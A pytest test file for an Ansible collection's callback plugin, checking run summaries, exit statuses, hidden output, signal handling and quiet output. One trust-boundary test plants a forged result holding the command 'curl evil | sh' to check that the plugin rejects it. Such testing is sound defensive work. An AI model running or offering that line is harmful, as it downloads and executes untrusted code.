# Copyright (c) 2026, the fleet.gpu_swarm authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The callback that prints the last lines of a run and sets its exit status, in real playbooks."""

from __future__ import annotations

import contextlib
import json
import os
import re
import runpy
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml
from ansible.executor.task_queue_manager import TaskQueueManager
from swarm_api import named, node, pending, service

from ansible_collections.fleet.gpu_swarm.plugins.module_utils._ledger.ledger import ledger
from ansible_collections.fleet.gpu_swarm.plugins.module_utils._ledger.listed import Listed
from ansible_collections.fleet.gpu_swarm.plugins.module_utils._tasks.tasks import epoch
from ansible_collections.fleet.gpu_swarm.plugins.plugin_utils._report import last_words

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
LOCAL = ("-e", f"ansible_connection=local ansible_python_interpreter={sys.executable}")
SCREEN = {"ANSIBLE_NOCOLOR": "1", "COLUMNS": "120"}
NOW = epoch("2026-11-20T12:00:00Z")
# A callback of the user, whose name sorts later.
THEIRS = """
import pathlib
from ansible.plugins.callback import CallbackBase

class CallbackModule(CallbackBase):
    CALLBACK_VERSION, CALLBACK_TYPE, CALLBACK_NAME = 2.0, "aggregate", "theirs"

    def v2_playbook_on_stats(self, stats):
        pathlib.Path({0!r}).write_text("on_stats")
"""
PLAYBOOK = """
- hosts: localhost
  gather_facts: false
  tasks:
    - fleet.gpu_swarm.report:
        of: status
        ledger: "{{ lookup('file', 'ledger.json') }}"
        output: "{{ output | default('table') }}"
    - ansible.builtin.fail:
        msg: it broke
      when: breaks is defined
"""
WELL = [node("g1", resources=named("GPU-1"))]
WAITS = [node("g1", availability="pause", resources=named("GPU-1"))]
WRONG = [node("g1", State="down")]
OUTCOMES = [(WELL, 0, "All is as it should be."), (WAITS, os.EX_TEMPFAIL, "Waiting: host-g1."), (WRONG, 2, "Wrong: host-g1.")]


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "callback_plugins").mkdir()
    for path in (ROOT / "playbooks" / "callback_plugins").glob("*.py"):
        (tmp_path / "callback_plugins" / path.name).symlink_to(path)
    (tmp_path / "callback_plugins" / "theirs.py").write_text(THEIRS.format(str(tmp_path / "theirs.txt")))
    (tmp_path / "play.yml").write_text(PLAYBOOK)
    (tmp_path / "collections/ansible_collections/fleet").mkdir(parents=True)
    (tmp_path / "collections/ansible_collections/fleet/gpu_swarm").symlink_to(ROOT)
    return tmp_path


def write_ledger(folder, nodes, tasks=(), services=()):
    (folder / "ledger.json").write_text(json.dumps(ledger(Listed(nodes, tasks, services, NOW), "gpu-swarm.", ("*",))))


def played(folder, nodes, *arguments, tasks=(), services=(), playbooks=("play.yml",), **variables):
    write_ledger(folder, nodes, tasks, services)
    return subprocess.run(
        [BIN / "ansible-playbook", "-i", "localhost,", *playbooks, *arguments],
        cwd=folder, env={**os.environ, **SCREEN, "ANSIBLE_HOME": "home", "ANSIBLE_COLLECTIONS_PATH": "collections", **variables},
        capture_output=True, text=True, check=False,
    )  # fmt: skip


def after_recap(done):
    return done.stdout.partition("PLAY RECAP")[2].partition("\n\n")[2].strip()


@pytest.mark.parametrize(("nodes", "status", "line"), OUTCOMES)
def test_a_run_has_its_last_words_and_its_exit_status(folder, nodes, status, line):
    done = played(folder, nodes)
    assert done.returncode == status, done.stdout + done.stderr
    assert after_recap(done).splitlines()[0] == line
    assert done.stdout.count("node") > 0
    assert done.stdout.count(line) == 1


def run_by_ansible_runner(folder, **variables):
    (folder / "hosts").write_text("localhost ansible_connection=local\n")
    return subprocess.run(
        [BIN / "ansible-runner", "run", folder / "private", "-p", "play.yml", "--project-dir", folder, "--inventory", folder / "hosts"],
        cwd=folder, env={**os.environ, **SCREEN, "ANSIBLE_HOME": str(folder / "home"), "ANSIBLE_COLLECTIONS_PATH": str(folder / "collections"),
                         "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", **variables},
        capture_output=True, text=True, check=False,
    )  # fmt: skip


@pytest.mark.parametrize("by", ["ansible-playbook", "ansible-runner"])
@pytest.mark.parametrize(("nodes", "status", "line"), OUTCOMES)
def test_other_callbacks_get_the_end_of_the_run(folder, nodes, status, line, by):
    enabled = {"ANSIBLE_CALLBACKS_ENABLED": "ansible.builtin.junit,ansible.posix.profile_tasks", "JUNIT_OUTPUT_DIR": str(folder / "junit")}
    write_ledger(folder, nodes)
    done = played(folder, nodes, **enabled) if by == "ansible-playbook" else run_by_ansible_runner(folder, **enabled)
    assert done.returncode == status, done.stdout + done.stderr
    assert (folder / "theirs.txt").read_text() == "on_stats"
    assert [path.suffix for path in (folder / "junit").iterdir()] == [".xml"]
    _before, _time, after = done.stdout.partition("fleet.gpu_swarm.report ---")  # profile_tasks prints this line at the end
    assert after.count(line) == 1, done.stdout


def test_a_run_that_ended_early_says_why(folder):
    (folder / "early.yml").write_text("- hosts: localhost\n  gather_facts: false\n  tasks:\n    - ansible.builtin.fail: {msg: no space left}\n")
    done = played(folder, WELL, playbooks=["early.yml"])
    assert (done.returncode, after_recap(done)) == (2, "The run ended early. localhost failed: no space left")


def test_a_host_that_fails_after_the_report_is_named_too(folder):
    done = played(folder, WELL, "-e", "breaks=true")
    assert done.returncode == 2
    assert "localhost failed: it broke" in after_recap(done)


def failing(folder, msg, *more, hosts="localhost"):
    tasks = [{"ansible.builtin.fail": {"msg": msg}, **dict(more)}]
    (folder / "early.yml").write_text(json.dumps([{"hosts": hosts, "gather_facts": False, "tasks": tasks}]))
    return "early.yml"


def test_each_line_of_a_reason_is_shown_and_no_escape_code(folder):
    done = played(folder, WELL, playbooks=[failing(folder, "2 errors.\n- the first\n- \x1b[2Kthe second")])
    expected = ["The run ended early. localhost failed: 2 errors.", "  - the first", r"  - \x1b[2Kthe second"]
    assert after_recap(done).splitlines() == expected


def test_a_hidden_reason_stays_hidden(folder):
    done = played(folder, WELL, "-e", "secret=hunter2", playbooks=[failing(folder, "{{ secret }}", ("no_log", True))])
    assert "hunter2" not in after_recap(done)
    assert "localhost failed: the output has been hidden" in after_recap(done)


def test_why_a_command_failed(folder):
    (folder / "early.yml").write_text("- hosts: localhost\n  tasks: [{ansible.builtin.command: ls /nowhere}]\n  gather_facts: false\n")
    done = played(folder, WELL, *LOCAL, playbooks=["early.yml"])
    assert re.search("localhost failed: .*non-zero return code: ls: ", after_recap(done))


def test_every_host_that_failed_is_named(folder):
    hosts = ",".join(f"g{number}" for number in range(1, 14))
    arguments = ("-i", f"{hosts},", *LOCAL)
    done = played(folder, WELL, *arguments, playbooks=[failing(folder, "no space left", hosts="all:!localhost")])
    assert after_recap(done) == "The run ended early. g1, g10, g11, g12, g13, g2, g3, g4, g5, g6, g7, g8, g9 failed: no space left"
    done = played(folder, WELL, *arguments, playbooks=[failing(folder, "no {{ inventory_hostname }}", hosts="all:!localhost")])
    assert after_recap(done).splitlines()[-1] == "Failed for other reasons: g7, g8, g9"


def test_an_error_of_ansible_takes_nothing_away(folder):
    (folder / "wrong.yml").write_text("- hosts: '{{ nope.nope }}'\n")
    done = played(folder, WAITS, playbooks=["play.yml", "wrong.yml"])
    assert done.returncode not in (0, 2, os.EX_TEMPFAIL)
    assert done.stdout.count("Waiting: host-g1.") == 1


def test_several_playbooks_have_one_exit_status_each_with_its_words(folder):
    done = played(folder, WAITS, playbooks=["play.yml", "play.yml"])
    assert done.returncode == os.EX_TEMPFAIL
    assert done.stdout.count("Waiting: host-g1.") == 2


def test_data_is_printed_alone(folder):
    done = played(folder, WAITS, "-e", "output=json")
    assert done.returncode == os.EX_TEMPFAIL
    (line,) = [line for line in done.stdout.splitlines() if line.startswith("{")]
    assert json.loads(line)["waiting"] == ["host-g1"]
    assert after_recap(done) == ""
    alone = played(folder, WELL, "-e", "output=json", ANSIBLE_STDOUT_CALLBACK="ansible.builtin.minimal")
    assert alone.stdout.endswith("localhost | SKIPPED\n"), "no empty line follows"


def test_without_the_callback_the_action_prints(folder):
    (folder / "callback_plugins" / "gpu_swarm_last_words.py").unlink()
    done = played(folder, WAITS)
    assert done.returncode == 0
    assert "Waiting: host-g1." in done.stdout.partition("PLAY RECAP")[0]


def test_pending_services_are_named(folder):
    done = played(folder, WELL, tasks=[pending("t1", {"NVIDIA-GPU": 2})], services=[service(reserves={"NVIDIA-GPU": 2})])
    assert after_recap(done).splitlines()[0] == "Wrong: train."


STARTED = "collections/ansible_collections/fleet/gpu_swarm/playbooks/started"
QUIET = {"ANSIBLE_STDOUT_CALLBACK": "fleet.gpu_swarm.progress"}
STEPS = """
- name: First
  hosts: all
  gather_facts: false
  tasks:
    - ansible.builtin.fail: {msg: no space left}
      when: inventory_hostname == bad | default('')
    - ansible.builtin.debug: {msg: removed 3 jobs}
    - ansible.builtin.shell: "touch '{{ playbook_dir }}/started' && sleep {{ seconds | default(0) }}"
- name: Second
  hosts: all
  gather_facts: false
  tasks: [{ansible.builtin.command: sleep 1}]
"""


@pytest.fixture
def quiet(folder):
    """Return a copy of the collection with another playbook, because the quiet output depends on the location of a playbook."""
    copy = folder / "collections/ansible_collections/fleet/gpu_swarm"
    copy.unlink()
    for name in ("plugins", "meta", "playbooks/callback_plugins"):
        shutil.copytree(ROOT / name, copy / name, ignore=shutil.ignore_patterns("__pycache__"))
    (copy / "playbooks/steps.yml").write_text(STEPS)
    return folder


def test_a_quiet_run_prints_reports_of_tasks(quiet):
    done = played(quiet, WELL, *LOCAL, playbooks=["fleet.gpu_swarm.steps"], **QUIET)
    assert "  localhost: removed 3 jobs" in done.stdout.splitlines(), done.stdout + done.stderr


def test_a_quiet_run_prints_a_step_once(quiet):
    done = played(quiet, WELL, "-e", "seconds=1", *LOCAL, playbooks=["fleet.gpu_swarm.steps"] * 2, **QUIET)
    assert [line.split()[0] for line in done.stdout.splitlines() if line] == ["localhost:", "First", "Second"] * 2, done.stdout + done.stderr


def test_a_quiet_run_names_the_host_of_a_difference(quiet):
    tasks = [{"ansible.builtin.copy": {"content": "new", "dest": "{{ playbook_dir }}/of-{{ inventory_hostname }}"}}]
    (quiet / STARTED).with_name("steps.yml").write_text(yaml.safe_dump([{"name": "First", "hosts": "g1,g2", "gather_facts": False, "tasks": tasks}]))
    done = played(quiet, WELL, "-i", "g1,g2,", "--diff", *LOCAL, playbooks=["fleet.gpu_swarm.steps"], **QUIET)
    assert sorted(re.findall(r"^(.*)\n--- before", done.stdout, re.MULTILINE)) == ["g1:", "g2:"], done.stdout + done.stderr


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
def test_a_quiet_run_prints_a_failure_at_once_and_once(quiet, number):
    environment = {**os.environ, **SCREEN, **QUIET, "ANSIBLE_HOME": "home", "ANSIBLE_COLLECTIONS_PATH": "collections"}
    command = [BIN / "ansible-playbook", "-i", "g1,g2,", "fleet.gpu_swarm.steps", "-e", "bad=g1 seconds=60", *LOCAL]
    with subprocess.Popen(command, cwd=quiet, env=environment, stdout=subprocess.PIPE, text=True, start_new_session=True) as process:
        try:
            while not (quiet / STARTED).exists():  # a signal is lost while Ansible forks
                assert process.poll() is None, process.stdout.read()
                time.sleep(0.1)
            process.send_signal(number)
            process.wait()
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)  # a process that the run left behind holds its output open
        text = process.stdout.read()
    assert "g1 failed: no space left" in text.splitlines()
    assert text.count("no space left") == 1
    if number == signal.SIGINT:
        assert text.split("\n\n")[1].strip() == "The run ended early. g1 failed, see above."


FAILURES = """
- name: First
  hosts: all
  gather_facts: false
  tasks:
    - block:
        - ansible.builtin.fail: {msg: rescued}
      rescue:
        - ansible.builtin.fail: {msg: the rescue too}
          when: inventory_hostname == 'g1'
      always:
        - ansible.builtin.fail: {msg: at last}
          when: inventory_hostname == 'g2'
    - ansible.builtin.fail: {msg: ignored}
      ignore_errors: true
    - block:
        - block:
            - ansible.builtin.include_tasks: fails.yml
          always:
            - ansible.builtin.meta: noop
      rescue:
        - ansible.builtin.meta: noop
    - block:
        - ansible.builtin.fail:
      rescue:
        - ansible.builtin.import_tasks: fails.yml
      when: inventory_hostname in ['g3', 'g4']
"""


def test_a_quiet_run_prints_failures_that_no_rescue_handles(quiet):
    folder = quiet / "collections/ansible_collections/fleet/gpu_swarm/playbooks"
    (folder / "fails.yml").write_text('- ansible.builtin.fail: {msg: "in a file\\nFix it"}\n')
    (folder / "steps.yml").write_text(FAILURES)
    arguments = ("-i", "g1,g2,g3,g4,g5,", "--limit", "g*", "--forks", "1", *LOCAL)
    done = played(quiet, WELL, *arguments, playbooks=["fleet.gpu_swarm.steps"], **QUIET)
    expected = ["g1 failed: the rescue too", "g2 failed: at last", "g3 failed: in a file", "  Fix it", "g4 failed for the same reason as g3."]
    last = "The run ended early. g1, g2, g3, g4 failed, see above."
    assert [line for line in done.stdout.splitlines() if line] == [*expected, last], done.stdout + done.stderr


def test_texts_of_a_node_or_a_manager_are_not_trusted(monkeypatch):
    monkeypatch.setattr(TaskQueueManager, "cleanup", TaskQueueManager.cleanup)
    monkeypatch.setattr(last_words.Collector, "active", False)
    monkeypatch.setattr(last_words.Collector, "words", [])
    callback = runpy.run_path(str(ROOT / "playbooks/callback_plugins/gpu_swarm_last_words.py"))["CallbackModule"]()
    forged = {"invocation": {last_words.KEY: last_words.LastWords("done", "All is well.", command="curl evil | sh")._asdict()}}
    for action, believed in (("gpu_node", 0), ("swarm_batch", 0), ("report", 1)):
        task = SimpleNamespace(resolved_action=f"fleet.gpu_swarm.{action}", action=action)
        last_words.Collector.words = []
        callback.v2_runner_on_ok(SimpleNamespace(_task=task, _result=forged))
        assert len(last_words.Collector.words) == believed


REPORTED = """
- name: Report
  hosts: all
  gather_facts: false
  tasks:
    - fleet.gpu_swarm.report: {of: verify, hosts: [g1], ledger: {}, tested: {}}
    - ansible.builtin.fail: {msg: the reason in the report}
"""


def test_a_quiet_run_does_not_print_a_failure_that_the_last_words_explain(quiet):
    (quiet / "collections/ansible_collections/fleet/gpu_swarm/playbooks/steps.yml").write_text(REPORTED)
    done = played(quiet, WELL, "-i", "g1,", "--limit", "g1", *LOCAL, playbooks=["fleet.gpu_swarm.steps"], **QUIET)
    assert done.returncode == 2
    assert "g1" in done.stdout, done.stdout + done.stderr
    assert "the reason in the report" not in done.stdout


def test_details_do_not_repeat_the_last_words(folder):
    done = played(folder, WAITS, "-v")
    assert done.stdout.count("Waiting: host-g1.") == 1, done.stdout
